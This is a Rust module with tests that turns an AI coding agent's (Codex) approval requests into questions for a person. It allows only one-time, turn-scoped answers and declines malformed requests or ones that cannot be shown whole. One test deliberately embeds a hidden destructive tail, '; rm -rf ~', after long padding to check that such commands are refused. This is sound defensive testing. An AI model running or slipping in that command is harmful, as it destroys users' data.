//! Codex's questions read, and codex answered: the codex side of [`crate::approval::Question`]. Pure:
//! serde and a oneshot, no IO.
//!
//! - [`parse`] reads codex's requests that a person may answer:
//!   `item/commandExecution/requestApproval` (the exact command, its cwd, codex's reason, a
//!   network host), `item/fileChange/requestApproval` (the files and what each change writes,
//!   taken from the `fileChange` item that codex announced before asking, see [`ChangeBook`]),
//!   `item/permissions/requestApproval` (the filesystem and network permissions asked),
//!   `item/tool/requestUserInput` (the questions) and `mcpServer/elicitation/request` (a nested
//!   MCP server's form). Field names are those of 0.145.0 and 0.171.0 (checked against
//!   `codex app-server generate-json-schema` of both). Nothing here is redacted: the MCP side
//!   redacts every string before a person sees it ([`Question::lines`]).
//! - An [`AnswerLine`] is built only from a [`Decision`] (or a person's typed input), by the
//!   protocol's typed answers ([`ServerRequest::accept_once`], [`ServerRequest::grant_for_turn`],
//!   [`ServerRequest::answer_input`], [`ServerRequest::accept_form`], [`ServerRequest::decline`]),
//!   so an answer that persists cannot be written: never `acceptForSession`,
//!   `acceptWithExecpolicyAmendment`, `applyNetworkPolicyAmendment`, a `session`-scoped
//!   permission grant, or `cancel`.
//! - The params are read typed ([`ServerRequest::question_params`]): a missing or mistyped
//!   field declines the request ([`NotAQuestion::Malformed`]), never asks a person with blanks.
//! - [`ask`] hands a question over as a [`CodexQuestion`]: every way its [`Asked`] can end answers
//!   codex: an answer, [`Asked::decline`], a drop, or the deadline (the client's task then
//!   sends the decline).

use std::collections::HashMap;
use std::time::Instant;

use serde_json::Value;
use tokio::sync::oneshot;

use crate::approval::{Asked, Reply};
use crate::approval::{
    Decision, FileSummary, Input, InputQuestion, MAX_DIFF_CHARS, MAX_ENTRIES, MAX_FIELD_CHARS,
    Question, capped, whole,
};
use crate::codex::app_server::protocol::{
    AnnouncedChange, CommandApprovalParams, CommandKind, ElicitationRequest, Item, Notification,
    PermissionsApprovalParams, QuestionParams, RequestedPermissions, ServerRequest,
    UserInputParams,
};

/// A change as codex announced it (each field required, [`AnnouncedChange`]), `None` when
/// its path or where it moves to is too long to show whole.
fn file_summary(c: &AnnouncedChange) -> Option<FileSummary> {
    let (path, kind, diff) = (c.path.as_str(), c.kind.kind.as_str(), c.diff.as_str());
    let (added, removed) = match kind {
        "add" => (diff.lines().count(), 0),
        "delete" => (0, diff.lines().count()),
        _ => diff.lines().fold((0, 0), |(a, r), l| {
            if l.starts_with('+') && !l.starts_with("+++") {
                (a + 1, r)
            } else if l.starts_with('-') && !l.starts_with("---") {
                (a, r + 1)
            } else {
                (a, r)
            }
        }),
    };
    let move_to = match c.kind.move_path.as_deref() {
        Some(to) => Some(whole(to)?),
        None => None,
    };
    let kind = match &move_to {
        Some(to) => format!("{kind} → {to}"),
        None => kind.to_owned(),
    };
    Some(FileSummary {
        path: whole(path)?,
        kind,
        move_to,
        added,
        removed,
        diff: diff.to_owned(),
        resolves_outside: false,
    })
}

/// The `fileChange` items codex announced (`item/started`), by item id: codex's file-change
/// approval names only the item, so the files and diff come from here. It reads the
/// notification the client already parsed ([`ChangeBook::observe`]): a line is read once, and
/// the book and the turn see the same item.
#[derive(Debug, Default)]
pub struct ChangeBook {
    /// `None`: a change the form could not show whole (too many files, a path too long).
    items: HashMap<String, Option<Vec<FileSummary>>>,
}

impl ChangeBook {
    /// Take in one notification from codex (anything but a `fileChange` item of `item/started`
    /// or `item/completed` is ignored).
    pub fn observe(&mut self, n: &Notification) {
        let (item, completed) = match n {
            Notification::ItemStarted { item, .. } => (item, false),
            Notification::ItemCompleted { item, .. } => (item, true),
            _ => return,
        };
        let Item::FileChange { id, changes, .. } = item else {
            return;
        };
        if completed {
            self.items.remove(id);
            return;
        }
        // each change was read typed: one that is not a change as codex announces it (its kind
        // or content missing) cannot be shown as it is, and the item is not asked (never shown
        // as an empty write); an item without its list of changes, or with a change without
        // its path, is no notification at all (the client stops at a malformed line)
        let files = if changes.len() <= MAX_ENTRIES {
            changes
                .iter()
                .map(|c| c.as_ref().ok().and_then(file_summary))
                .collect::<Option<Vec<_>>>()
                // what will be written is shown whole, or the change is not asked
                .filter(|f| {
                    f.iter().map(|f| f.diff.chars().count()).sum::<usize>() <= MAX_DIFF_CHARS
                })
        } else {
            None
        };
        if self.items.len() >= 1024 {
            self.items.clear();
        }
        match self.items.get(id) {
            // announced again with other changes (a provider that repeats an id): which one an
            // approval names is unknowable, so none can be shown
            Some(before) if *before != files => {
                self.items.insert(id.clone(), None);
            }
            Some(_) => {}
            None => {
                self.items.insert(id.clone(), files);
            }
        }
    }

    /// The files of item `id`, if codex announced it: `Some(None)` when they cannot be shown
    /// whole.
    pub fn files(&self, id: &str) -> Option<Option<&[FileSummary]>> {
        self.items.get(id).map(|f| f.as_deref())
    }
}

/// Why a request is not a question for a person.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum NotAQuestion {
    /// A kind that is always declined (dynamic tools, v1 approvals, unknown methods).
    #[error("codex's `{0}` is not asked of a person")]
    Kind(String),
    /// The params lack a field the question needs.
    #[error("codex's `{method}` has no usable `{field}`")]
    Missing { method: String, field: &'static str },
    /// A field that decides what an accept allows cannot be shown whole (too long, too many
    /// entries, keys the form does not show): a person cannot judge it.
    #[error("codex's `{method}` has a `{field}` that cannot be shown whole")]
    Unshowable { method: String, field: &'static str },
    /// The params are not what codex's protocol says: a field missing or mistyped.
    #[error("codex's `{method}` could not be read: {reason}")]
    Malformed { method: String, reason: String },
}

/// The method a [`NotAQuestion`] names.
#[derive(Clone, Copy)]
struct Why<'a>(&'a str);

impl Why<'_> {
    fn missing(self, field: &'static str) -> NotAQuestion {
        NotAQuestion::Missing {
            method: self.0.to_owned(),
            field,
        }
    }

    fn unshowable(self, field: &'static str) -> NotAQuestion {
        NotAQuestion::Unshowable {
            method: self.0.to_owned(),
            field,
        }
    }
}

/// A text field shown as it is: `None` when absent or empty, else cut at [`MAX_FIELD_CHARS`].
fn nonempty(v: Option<String>) -> Option<String> {
    v.filter(|s| !s.is_empty()).map(|s| capped(&s))
}

/// A text field shown whole: `Ok(None)` when absent or empty, `Err` when too long to show.
fn opt_whole(v: Option<&str>) -> Result<Option<String>, ()> {
    match v.filter(|s| !s.is_empty()) {
        None => Ok(None),
        Some(s) => whole(s).map(Some).ok_or(()),
    }
}

/// A command approval. 0.171.0's `kind` `writeStdin` (input to a running terminal) or
/// `humanCommand` (needs a capability the bridge does not declare) is not a command a person
/// can judge from this form; extra permissions ride on an accept of the command and the form
/// does not show them: neither is asked.
fn command_question(why: Why<'_>, p: CommandApprovalParams) -> Result<Question, NotAQuestion> {
    match &p.kind {
        None | Some(CommandKind::Command) => {}
        Some(other) => {
            return Err(NotAQuestion::Kind(format!(
                "{} ({})",
                why.0,
                other.as_str()
            )));
        }
    }
    if p.additional_permissions.is_some_and(|m| !m.is_empty()) {
        return Err(why.unshowable("additionalPermissions"));
    }
    let host = p.network_approval_context.map(|c| c.host);
    let network_host =
        opt_whole(host.as_deref()).map_err(|_| why.unshowable("networkApprovalContext"))?;
    let command = match opt_whole(p.command.as_deref()).map_err(|_| why.unshowable("command"))? {
        Some(c) => c,
        None if network_host.is_some() => String::new(),
        None => return Err(why.missing("command")),
    };
    Ok(Question::Command {
        command,
        cwd: opt_whole(p.cwd.as_deref()).map_err(|_| why.unshowable("cwd"))?,
        reason: nonempty(p.reason),
        network_host,
        workdir: None,
        cwd_resolves_outside: false,
    })
}

/// How an entry's path is shown: a plain string as it is, codex's tagged `FileSystemPath` as
/// its JSON.
fn entry_path(path: &Value) -> String {
    match path {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

/// Whether the form can show every permission an accept would grant: only the keys it lists
/// (`fileSystem.read`/`write`/`entries`, `network.enabled`), every list within
/// [`MAX_ENTRIES`], every path within [`MAX_FIELD_CHARS`].
fn permissions_shown_whole(perms: &RequestedPermissions) -> bool {
    let fits = |s: &str| s.chars().count() <= MAX_FIELD_CHARS;
    let Some(fs) = &perms.file_system else {
        return !perms.has_unknown_keys();
    };
    let lists_fit = [&fs.read, &fs.write]
        .into_iter()
        .flatten()
        .all(|l| l.len() <= MAX_ENTRIES && l.iter().all(|s| fits(s)))
        && fs
            .entries
            .as_ref()
            .is_none_or(|e| e.len() <= MAX_ENTRIES && e.iter().all(|e| fits(&entry_path(&e.path))));
    !perms.has_unknown_keys() && lists_fit
}

/// A permissions approval, shown whole or not asked.
fn permissions_question(
    why: Why<'_>,
    p: PermissionsApprovalParams,
) -> Result<Question, NotAQuestion> {
    let perms = &p.permissions;
    if !permissions_shown_whole(perms) {
        return Err(why.unshowable("permissions"));
    }
    let fs = perms.file_system.as_ref();
    let listed = |l: Option<&Vec<String>>| -> Vec<String> {
        l.into_iter()
            .flatten()
            .take(MAX_ENTRIES)
            .map(|s| capped(s))
            .collect()
    };
    let mut read = listed(fs.and_then(|f| f.read.as_ref()));
    let mut write = listed(fs.and_then(|f| f.write.as_ref()));
    for e in fs
        .and_then(|f| f.entries.as_ref())
        .into_iter()
        .flatten()
        .take(MAX_ENTRIES)
    {
        let path = capped(&entry_path(&e.path));
        match e.access.as_str() {
            "write" => write.push(path),
            "read" => read.push(path),
            other => write.push(format!("{path} ({other})")),
        }
    }
    Ok(Question::Permissions {
        cwd: nonempty(Some(p.cwd)).ok_or_else(|| why.missing("cwd"))?,
        reason: nonempty(p.reason),
        read,
        write,
        network: perms.network.as_ref().and_then(|n| n.enabled) == Some(true),
    })
}

/// The questions of a user-input request (at least one).
fn user_input_question(why: Why<'_>, p: UserInputParams) -> Result<Question, NotAQuestion> {
    let questions: Vec<InputQuestion> = p
        .questions
        .into_iter()
        .take(MAX_ENTRIES)
        .map(|q| InputQuestion {
            id: q.id,
            header: capped(&q.header),
            question: capped(&q.question),
            options: q
                .options
                .into_iter()
                .flatten()
                .take(MAX_ENTRIES)
                .map(|o| capped(&o.label))
                .collect(),
            other: q.is_other,
            secret: q.is_secret,
        })
        .collect();
    if questions.is_empty() {
        return Err(why.missing("questions"));
    }
    Ok(Question::UserInput { questions })
}

/// Read `req` as a question, with the files of `book` for a file-change approval. Its
/// params are read typed ([`ServerRequest::question_params`]): a missing or mistyped field
/// is [`NotAQuestion::Malformed`], and the request is declined.
pub fn parse(req: &ServerRequest, book: &ChangeBook) -> Result<Question, NotAQuestion> {
    let why = Why(&req.method);
    // a request whose thread, turn or item cannot be read cannot be placed: not asked
    let head = req
        .head
        .as_ref()
        .map_err(|_| why.missing("threadId, turnId or itemId"))?;
    let params = req.question_params().map_err(|e| NotAQuestion::Malformed {
        method: req.method.clone(),
        reason: e.to_string(),
    })?;
    match params {
        None => Err(NotAQuestion::Kind(req.method.clone())),
        Some(QuestionParams::Command(p)) => command_question(why, p),
        Some(QuestionParams::FileChange(p)) => {
            // a person judges the files codex announced, shown whole, or nothing
            let files = match head.item_id.as_deref().and_then(|id| book.files(id)) {
                Some(Some(f)) => f.to_vec(),
                Some(None) => return Err(why.unshowable("changes")),
                None => return Err(why.missing("changes (codex did not announce them)")),
            };
            // the root codex would like for the session is shown as not granted: only
            // `acceptForSession` grants it, and no answer here is one
            Ok(Question::FileChange {
                reason: nonempty(p.reason),
                grant_root: nonempty(p.grant_root),
                files: Some(files),
                workdir: None,
            })
        }
        Some(QuestionParams::Permissions(p)) => permissions_question(why, p),
        Some(QuestionParams::UserInput(p)) => user_input_question(why, p),
        Some(QuestionParams::Elicitation(p)) => Ok(Question::McpElicitation {
            server: nonempty(Some(p.server_name)).ok_or_else(|| why.missing("serverName"))?,
            message: capped(p.request.message()),
            url: match &p.request {
                ElicitationRequest::Url { url, .. } => nonempty(Some(url.clone())),
                _ => None,
            },
            form: match p.request {
                ElicitationRequest::Form {
                    requested_schema, ..
                } => Some(Value::Object(requested_schema)),
                _ => None,
            },
        }),
    }
}

/// One answer line for codex, built only from a [`Decision`] (and [`Input`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AnswerLine {
    line: String,
    decision: Decision,
}

impl AnswerLine {
    /// The JSON line (without the newline).
    pub fn line(&self) -> &str {
        &self.line
    }

    /// What it decides.
    pub fn decision(&self) -> Decision {
        self.decision
    }

    /// The decline of `req` (the protocol's refusal).
    pub fn decline(req: &ServerRequest) -> Self {
        AnswerLine {
            line: req.decline(),
            decision: Decision::Decline,
        }
    }

    /// `decision` on `req` read as `question`. An accept of a question that needs input, or
    /// with input that does not fit it, is a decline.
    pub fn new(
        req: &ServerRequest,
        question: &Question,
        decision: Decision,
        input: Option<Input>,
    ) -> Self {
        if decision == Decision::Decline {
            return AnswerLine::decline(req);
        }
        // every accept is built by the protocol from the request itself; `None` (a kind or an
        // input that does not fit) is a decline
        let line = match (question, input) {
            (Question::Command { .. } | Question::FileChange { .. }, None) => req.accept_once(),
            (Question::Permissions { .. }, None) => req.grant_for_turn(),
            (Question::UserInput { questions }, Some(Input::Answers(given))) => {
                let answers = questions
                    .iter()
                    .filter_map(|q| {
                        let a = given.get(&q.id).filter(|a| !a.trim().is_empty())?;
                        Some((q.id.clone(), capped(a)))
                    })
                    .collect();
                req.answer_input(answers)
            }
            (Question::McpElicitation { form: Some(_), .. }, Some(Input::Form(content))) => {
                req.accept_form(content)
            }
            _ => None,
        };
        match line {
            Some(line) => AnswerLine {
                line,
                decision: Decision::AcceptOnce,
            },
            None => AnswerLine::decline(req),
        }
    }
}

/// A question codex asked, as the codex side keeps it: the request (to place it in its thread
/// and turn, and to log it) and the [`Asked`] handed to the answerer.
#[derive(Debug)]
pub struct CodexQuestion {
    pub request: ServerRequest,
    pub asked: Asked,
}

/// Hand `question` (read from `req`) over until `deadline`: the [`CodexQuestion`], and where codex's
/// answer line comes from. A decision reaches codex only as an [`AnswerLine`] built from `req`
/// ([`AnswerLine::new`]); a dropped [`Asked`] closes the receiver, which the caller answers with
/// the decline.
pub fn ask(
    req: ServerRequest,
    question: Question,
    deadline: Instant,
) -> (CodexQuestion, oneshot::Receiver<AnswerLine>) {
    let (tx, rx) = oneshot::channel();
    let request = req.clone();
    let reply: Reply = Box::new(move |question, decision, input| {
        let answer = AnswerLine::new(&request, question, decision, input);
        let decided = answer.decision();
        match tx.send(answer) {
            Ok(()) => decided,
            Err(_) => Decision::Decline,
        }
    });
    let asked = Asked::new(question, deadline, reply);
    (
        CodexQuestion {
            request: req,
            asked,
        },
        rx,
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::approval::unasked::escalable;
    use crate::approval::{CHANGE_LABEL, DecisionRecord};
    use crate::codex::app_server::protocol::{Incoming, ProtocolError, parse_line};
    use crate::codex::rollout::ModelCall;
    use crate::security::redact::ClientSecrets;
    use crate::security::shown::{self, Unreadable};
    use serde_json::{Map, json};
    use std::collections::BTreeMap;

    const THREAD: &str = "01a22759-e393-7f71-bea4-35a12106bc11";
    const TURN: &str = "01a22753-3cfc-7740-b25a-145bedef01df";

    /// A request line, its thread and turn ids written `"T"` and `"U"` standing for the UUIDs
    /// codex prints (an id that is no UUID makes the request unreadable: see the test below).
    fn req(line: &str) -> ServerRequest {
        let line = line
            .replace("\"T\"", &format!("\"{THREAD}\""))
            .replace("\"U\"", &format!("\"{TURN}\""));
        match parse_line(&line).unwrap() {
            Incoming::Request(r) => r,
            other => panic!("{other:?}"),
        }
    }

    /// A notification line (ids written as for [`req`]), read as the client reads it.
    fn notice(line: &str) -> Result<Notification, ProtocolError> {
        let line = line
            .replace("\"T\"", &format!("\"{THREAD}\""))
            .replace("\"U\"", &format!("\"{TURN}\""));
        match parse_line(&line)? {
            Incoming::Notification(n) => Ok(n),
            other => panic!("{other:?}"),
        }
    }

    /// The line of `method` (`item/started` or `item/completed`) with `item`, on a thread and
    /// turn of codex's.
    fn item_line(method: &str, item: Value) -> String {
        json!({"method": method, "params": {"threadId": "T", "turnId": "U", "item": item}})
            .to_string()
    }

    /// `item` announced by `method`, read as the client reads it and taken in by `book`.
    fn announce(book: &mut ChangeBook, method: &str, item: Value) {
        book.observe(&notice(&item_line(method, item)).unwrap());
    }

    fn answers(r: &ServerRequest, q: &Question) -> Vec<Value> {
        let inputs = [
            None,
            Some(Input::Answers(BTreeMap::from([(
                "q1".into(),
                "yes".into(),
            )]))),
            Some(Input::Form(Map::from_iter([("ok".into(), json!(true))]))),
        ];
        let mut out = vec![];
        for d in [Decision::AcceptOnce, Decision::Decline] {
            for i in inputs.clone() {
                out.push(serde_json::from_str(AnswerLine::new(r, q, d, i).line()).unwrap());
            }
        }
        out
    }

    /// Measured on 0.145.0 (0.171.0 adds `kind: "command"` and more nulls).
    const COMMAND: &str = r#"{"method":"item/commandExecution/requestApproval","id":0,"params":{"threadId":"T","turnId":"U","itemId":"call_2","startedAtMs":1,"environmentId":"local","reason":"Write out.txt?","command":"/bin/bash -lc 'echo hi > out.txt; echo exit=$?'","cwd":"/w","commandActions":[{"type":"unknown","command":"echo hi > out.txt; echo exit=$?"}],"proposedExecpolicyAmendment":["/bin/bash","-lc","echo hi > out.txt; echo exit=$?"],"availableDecisions":["accept",{"acceptWithExecpolicyAmendment":{"execpolicy_amendment":[]}},"cancel"]}}"#;

    #[test]
    fn a_command_approval_reads_the_command_cwd_and_reason_and_answers_once() {
        let r = req(COMMAND);
        let q = parse(&r, &ChangeBook::default()).unwrap();
        assert_eq!(
            q,
            Question::Command {
                command: "/bin/bash -lc 'echo hi > out.txt; echo exit=$?'".into(),
                cwd: Some("/w".into()),
                reason: Some("Write out.txt?".into()),
                network_host: None,
                workdir: None,
                cwd_resolves_outside: false,
            }
        );
        assert_eq!(
            AnswerLine::new(&r, &q, Decision::AcceptOnce, None).line(),
            r#"{"id":0,"result":{"decision":"accept"}}"#
        );
        assert_eq!(
            AnswerLine::new(&r, &q, Decision::Decline, None).line(),
            r#"{"id":0,"result":{"decision":"decline"}}"#
        );
        let mut v171: Value = serde_json::from_str(COMMAND).unwrap();
        v171["params"]["kind"] = json!("command");
        assert!(parse(&req(&v171.to_string()), &ChangeBook::default()).is_ok());
        for other in ["writeStdin", "humanCommand"] {
            v171["params"]["kind"] = json!(other);
            assert!(matches!(
                parse(&req(&v171.to_string()), &ChangeBook::default()),
                Err(NotAQuestion::Kind(_))
            ));
        }
    }

    #[test]
    fn no_answer_that_can_be_built_persists() {
        let mut book = ChangeBook::default();
        book.observe(&notice(r#"{"method":"item/started","params":{"item":{"type":"fileChange","id":"p1","changes":[{"path":"/w/a.txt","kind":{"type":"update","move_path":null},"diff":"@@\n-a\n+b\n+c\n"}],"status":"inProgress"},"threadId":"T","turnId":"U"}}"#).unwrap());
        let lines = [
            COMMAND.to_owned(),
            r#"{"method":"item/fileChange/requestApproval","id":1,"params":{"threadId":"T","turnId":"U","itemId":"p1","startedAtMs":1,"reason":"edit","grantRoot":"/w"}}"#.to_owned(),
            r#"{"method":"item/permissions/requestApproval","id":2,"params":{"threadId":"T","turnId":"U","itemId":"i","startedAtMs":1,"cwd":"/w","reason":"net","permissions":{"network":{"enabled":true},"fileSystem":{"write":["/w/out"]}}}}"#.to_owned(),
            r#"{"method":"item/tool/requestUserInput","id":3,"params":{"threadId":"T","turnId":"U","itemId":"i","isBlocking":true,"questions":[{"id":"q1","header":"H","question":"Which?","options":[{"label":"a","description":"d"}]}]}}"#.to_owned(),
            r#"{"method":"mcpServer/elicitation/request","id":4,"params":{"threadId":"T","turnId":"U","serverName":"s","mode":"form","message":"ok?","requestedSchema":{"type":"object","properties":{"ok":{"type":"boolean"}}}}}"#.to_owned(),
        ];
        for l in lines {
            let r = req(&l);
            let q = parse(&r, &book).unwrap();
            for a in answers(&r, &q) {
                let text = a.to_string();
                for forbidden in [
                    "acceptForSession",
                    "Execpolicy",
                    "NetworkPolicy",
                    "session",
                    "cancel",
                    "always",
                ] {
                    assert!(!text.contains(forbidden), "{text}");
                }
                assert_eq!(a["id"], serde_json::to_value(&r.id).unwrap());
                assert!(a.get("result").is_some(), "{text}");
            }
        }
        // the file-change question lists the files codex announced, and never grants the root
        let r = req(
            r#"{"method":"item/fileChange/requestApproval","id":1,"params":{"threadId":"T","turnId":"U","itemId":"p1","startedAtMs":1,"grantRoot":"/w"}}"#,
        );
        let mut q = parse(&r, &book).unwrap();
        q.set_workdir(std::path::Path::new("/w"));
        let shown = q.lines();
        assert!(
            shown
                .iter()
                .any(|(l, t)| *l == "Files" && t == "/w/a.txt (update, +2 -1)"),
            "{shown:?}"
        );
        // what will be written is shown, whole
        assert!(
            shown
                .iter()
                .any(|(l, t)| *l == CHANGE_LABEL && t == "/w/a.txt (update)\n@@\n-a\n+b\n+c"),
            "{shown:?}"
        );
        assert!(
            shown
                .iter()
                .any(|(l, t)| *l == "Not granted" && t.contains("/w"))
        );
        assert_eq!(
            AnswerLine::new(&r, &q, Decision::AcceptOnce, None).line(),
            r#"{"id":1,"result":{"decision":"accept"}}"#
        );
    }

    #[test]
    fn permissions_are_granted_for_the_turn_only_and_input_must_fit() {
        let r = req(
            r#"{"method":"item/permissions/requestApproval","id":2,"params":{"threadId":"T","turnId":"U","itemId":"i","startedAtMs":1,"cwd":"/w","permissions":{"network":{"enabled":true},"fileSystem":null}}}"#,
        );
        let q = parse(&r, &ChangeBook::default()).unwrap();
        let a: Value =
            serde_json::from_str(AnswerLine::new(&r, &q, Decision::AcceptOnce, None).line())
                .unwrap();
        assert_eq!(
            a,
            json!({"id": 2, "result": {"permissions": {"network": {"enabled": true}}, "scope": "turn"}})
        );
        let d: Value =
            serde_json::from_str(AnswerLine::new(&r, &q, Decision::Decline, None).line()).unwrap();
        assert_eq!(d["result"], json!({"permissions": {}, "scope": "turn"}));

        let r = req(
            r#"{"method":"item/tool/requestUserInput","id":3,"params":{"threadId":"T","turnId":"U","itemId":"i","questions":[{"id":"q1","header":"H","question":"Which?"}]}}"#,
        );
        let q = parse(&r, &ChangeBook::default()).unwrap();
        assert!(q.needs_input());
        // an accept without input, or with the wrong kind, is a decline
        for input in [None, Some(Input::Form(Map::new()))] {
            let a = AnswerLine::new(&r, &q, Decision::AcceptOnce, input);
            assert_eq!(a.decision(), Decision::Decline);
            assert_eq!(a.line(), r#"{"id":3,"result":{"answers":{}}}"#);
        }
        let a = AnswerLine::new(
            &r,
            &q,
            Decision::AcceptOnce,
            Some(Input::Answers(BTreeMap::from([
                ("q1".into(), "the first".into()),
                ("q9".into(), "not asked".into()),
            ]))),
        );
        assert_eq!(
            a.line(),
            r#"{"id":3,"result":{"answers":{"q1":{"answers":["the first"]}}}}"#
        );

        let r = req(
            r#"{"method":"mcpServer/elicitation/request","id":"e","params":{"threadId":"T","serverName":"s","mode":"form","message":"ok?","requestedSchema":{"type":"object","properties":{"n":{"type":"string"}}}}}"#,
        );
        let q = parse(&r, &ChangeBook::default()).unwrap();
        let nested = Map::from_iter([("n".into(), json!({"deep": 1}))]);
        assert_eq!(
            AnswerLine::new(&r, &q, Decision::AcceptOnce, Some(Input::Form(nested))).decision(),
            Decision::Decline
        );
        let flat = Map::from_iter([("n".into(), json!("x"))]);
        assert_eq!(
            AnswerLine::new(&r, &q, Decision::AcceptOnce, Some(Input::Form(flat))).line(),
            r#"{"id":"e","result":{"action":"accept","content":{"n":"x"}}}"#
        );
    }

    #[test]
    fn kinds_a_person_is_not_asked_and_requests_without_their_fields() {
        for l in [
            r#"{"method":"item/tool/call","id":1,"params":{"threadId":"T"}}"#,
            r#"{"method":"execCommandApproval","id":1,"params":{}}"#,
            r#"{"method":"future/thing","id":1,"params":{}}"#,
            r#"{"method":"item/commandExecution/requestApproval","id":1,"params":{"threadId":"T"}}"#,
            r#"{"method":"item/permissions/requestApproval","id":1,"params":{"cwd":"/w"}}"#,
            r#"{"method":"item/tool/requestUserInput","id":1,"params":{"questions":[]}}"#,
        ] {
            assert!(parse(&req(l), &ChangeBook::default()).is_err(), "{l}");
        }
    }

    #[test]
    fn a_missing_or_mistyped_field_declines_the_question_never_asks_with_a_blank() {
        let malformed = |l: Value| {
            let r = req(&l.to_string());
            let got = parse(&r, &ChangeBook::default());
            assert!(
                matches!(got, Err(NotAQuestion::Malformed { .. })),
                "{l}: {got:?}"
            );
            // what the client then writes: the decline
            serde_json::from_str::<Value>(&r.decline()).unwrap()["result"].clone()
        };
        let cmd = |params: Value| json!({"method": "item/commandExecution/requestApproval", "id": 1, "params": params});
        for params in [
            json!({"command": 7}),
            json!({"command": "ls", "cwd": ["/w"]}),
            json!({"command": "ls", "reason": false}),
            json!({"command": "ls", "networkApprovalContext": {"protocol": "https"}}),
            json!({"command": "ls", "kind": "someFutureKind"}),
            json!({"command": "ls", "additionalPermissions": "all"}),
        ] {
            assert_eq!(malformed(cmd(params)), json!({"decision": "decline"}));
        }
        let perms = |params: Value| json!({"method": "item/permissions/requestApproval", "id": 2, "params": params});
        for params in [
            json!({"permissions": {"network": {"enabled": true}}}),
            json!({"cwd": 1, "permissions": {}}),
            json!({"cwd": "/w", "permissions": {"network": {"enabled": "yes"}}}),
            json!({"cwd": "/w", "permissions": {"fileSystem": {"write": [7]}}}),
            json!({"cwd": "/w", "permissions": {"fileSystem": {"entries": [{"path": "/w"}]}}}),
        ] {
            assert_eq!(
                malformed(perms(params)),
                json!({"permissions": {}, "scope": "turn"})
            );
        }
        let input = |q: Value| json!({"method": "item/tool/requestUserInput", "id": 3, "params": {"questions": [q]}});
        for q in [
            json!({"id": "q1", "question": "Which?"}),
            json!({"id": "q1", "header": "H", "question": "Which?", "options": [{"description": "d"}]}),
            json!({"id": "q1", "header": "H", "question": "Which?", "isSecret": "no"}),
        ] {
            assert_eq!(malformed(input(q)), json!({"answers": {}}));
        }
        let elicit = |params: Value| json!({"method": "mcpServer/elicitation/request", "id": 4, "params": params});
        for params in [
            json!({"mode": "form", "message": "ok?", "requestedSchema": {}}),
            json!({"serverName": "s", "mode": "form", "requestedSchema": {}}),
            json!({"serverName": "s", "mode": "form", "message": "ok?"}),
            json!({"serverName": "s", "mode": "url", "message": "go"}),
            json!({"serverName": "s", "message": "ok?", "requestedSchema": {}}),
            json!({"serverName": "s", "mode": "openai/userVerification", "challenge": "c",
                "description": "d", "title": "t"}),
        ] {
            assert_eq!(
                malformed(elicit(params)),
                json!({"action": "decline", "content": null})
            );
        }
        // the controls: complete, they are questions
        assert!(
            parse(
                &req(&cmd(json!({"command": "ls", "kind": "command"})).to_string()),
                &ChangeBook::default()
            )
            .is_ok()
        );
        let url = req(
            &elicit(json!({"serverName": "s", "mode": "url", "message": "go",
            "url": "https://example.com", "elicitationId": "e"}))
            .to_string(),
        );
        let q = parse(&url, &ChangeBook::default()).unwrap();
        assert!(
            matches!(&q, Question::McpElicitation { form: None, url: Some(u), .. }
            if u == "https://example.com")
        );
        // a link is never accepted with content: only a form is
        assert_eq!(
            AnswerLine::new(
                &url,
                &q,
                Decision::AcceptOnce,
                Some(Input::Form(Map::from_iter([("ok".into(), json!(true))])))
            )
            .decision(),
            Decision::Decline
        );
    }

    #[test]
    fn what_an_accept_would_allow_is_asked_only_when_it_can_be_shown_whole() {
        let unshowable = |l: Value, book: &ChangeBook| {
            matches!(
                parse(&req(&l.to_string()), book),
                Err(NotAQuestion::Unshowable { .. } | NotAQuestion::Missing { .. })
            )
        };
        let book = ChangeBook::default();
        // a command longer than a form shows (its tail could be `; rm -rf ~`)
        let long = format!("echo hi{} ; rm -rf ~", " ".repeat(MAX_FIELD_CHARS));
        let cmd = |params: Value| {
            json!({"method": "item/commandExecution/requestApproval",
            "id": 1, "params": params})
        };
        assert!(unshowable(
            cmd(json!({"command": long, "turnId": "U"})),
            &book
        ));
        let fits = "x".repeat(MAX_FIELD_CHARS);
        assert!(parse(&req(&cmd(json!({"command": fits})).to_string()), &book).is_ok());
        // extra permissions riding on a command's accept
        let extra = cmd(json!({"command": "ls", "additionalPermissions":
            {"network": {"enabled": true}}}));
        assert!(unshowable(extra, &book));
        let none = cmd(json!({"command": "ls", "additionalPermissions": null}));
        assert!(parse(&req(&none.to_string()), &book).is_ok());
        // permissions: more entries than shown, a key the form does not show, a long path
        let perms = |permissions: Value| {
            json!({"method": "item/permissions/requestApproval",
            "id": 2, "params": {"cwd": "/w", "permissions": permissions}})
        };
        let mut many: Vec<String> = (0..MAX_ENTRIES).map(|i| format!("/w/{i}")).collect();
        assert!(
            parse(
                &req(&perms(json!({"fileSystem": {"write": many}})).to_string()),
                &book
            )
            .is_ok()
        );
        many.push("/".into());
        assert!(unshowable(
            perms(json!({"fileSystem": {"write": many}})),
            &book
        ));
        assert!(unshowable(
            perms(json!({"fileSystem": {"write": ["/w"]}, "macos": {"x": 1}})),
            &book
        ));
        assert!(unshowable(
            perms(json!({"network": {"enabled": true, "hosts": ["*"]}})),
            &book
        ));
        assert!(unshowable(
            perms(json!({"fileSystem": {"read": [fits.clone() + "y"]}})),
            &book
        ));
        // a file change codex did not announce, or with more files than shown
        let change = |item: &str| {
            json!({"method": "item/fileChange/requestApproval", "id": 3,
            "params": {"itemId": item, "turnId": "U"}})
        };
        assert!(unshowable(change("unknown"), &book));
        let mut book = ChangeBook::default();
        let changes: Vec<Value> = (0..=MAX_ENTRIES)
            .map(|i| json!({"path": format!("/w/{i}"), "kind": {"type": "add"}, "diff": "x"}))
            .collect();
        announce(
            &mut book,
            "item/started",
            json!({"type": "fileChange", "id": "big", "changes": changes,
                "status": "inProgress"}),
        );
        assert!(unshowable(change("big"), &book));
    }

    #[test]
    fn the_book_reads_the_notification_the_client_parsed_not_a_line() {
        // its one way in takes the typed notification: a line is parsed once, by the client
        let observe: fn(&mut ChangeBook, &Notification) = ChangeBook::observe;
        let mut book = ChangeBook::default();
        observe(
            &mut book,
            &notice(&item_line(
                "item/started",
                json!({"type": "fileChange", "id": "c1", "status": "inProgress",
                    "changes": [{"path": "/w/a", "kind": {"type": "add"}, "diff": "x\n"}]}),
            ))
            .unwrap(),
        );
